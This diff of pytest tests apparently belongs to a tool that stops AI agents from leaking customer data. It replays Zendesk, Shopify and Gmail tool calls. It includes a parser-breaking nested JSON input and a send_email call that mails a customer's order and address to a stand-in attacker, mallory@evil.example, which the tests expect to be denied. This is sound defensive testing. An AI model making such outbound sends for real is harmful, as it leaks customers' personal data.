@@ -107,3 +107,40 @@ def test_a_deeply_nested_json_result_has_no_audience_and_breaks_nothing(
 ) -> None:
     hostile = '{"a":' * 50_000 + "1" + "}" * 50_000
     assert Labeller(patterns).audience("gmail", to_tool_result(hostile)) == frozenset()
+
+
+TICKET = step(
+    "zendesk",
+    "get_ticket",
+    {"ticket_id": 4411},
+    '{"subject": "Where is my order?", "requester": {"email": "dana.ortiz@mailbox.example"}, '
+    '"description": "I ordered a standing desk (order 88213) two weeks ago. Can you check?"}',
+)
+ORDER = (
+    '{"id": "88213", "email": "dana.ortiz@mailbox.example", "item": "Standing desk Pro 140", '
+    '"tracking": "1Z999AA10123456784", "shipping_address": "14 Elm Row, Leeds"}'
+)
+REPLY = "Hi Dana, your Standing desk Pro 140 shipped: tracking 1Z999AA10123456784."
+
+
+@pytest.mark.parametrize(
+    ("to", "action"),
+    [
+        (["dana.ortiz@mailbox.example"], Action.ALLOW),
+        (["mallory@evil.example"], Action.DENY),
+        (["dana.ortiz@mailbox.example", "mallory@evil.example"], Action.DENY),
+    ],
+)
+def test_a_customer_record_sent_to_the_customer_only_is_no_leak(
+    prevent: Session, to: list[str], action: Action
+) -> None:
+    order = step("shopify", "get_order", {"order_id": "88213"}, ORDER)
+    mail = step("gmail", "send_email", {"to": to, "subject": "Your order", "body": REPLY})
+    assert play(prevent, [TICKET, order, mail])[-1].action is action
+
+
+def test_a_listing_of_customer_records_has_no_one_to_return_to(prevent: Session) -> None:
+    other = '{"id": "88214", "email": "kai@x.example", "item": "Chair", "tracking": "1Z9"}'
+    orders = step("shopify", "list_orders", {"q": "desk"}, f"[{ORDER}, {other}]")
+    mail = step("gmail", "send_email", {"to": ["dana.ortiz@mailbox.example"], "body": REPLY})
+    assert play(prevent, [TICKET, orders, mail])[-1].action is Action.DENY
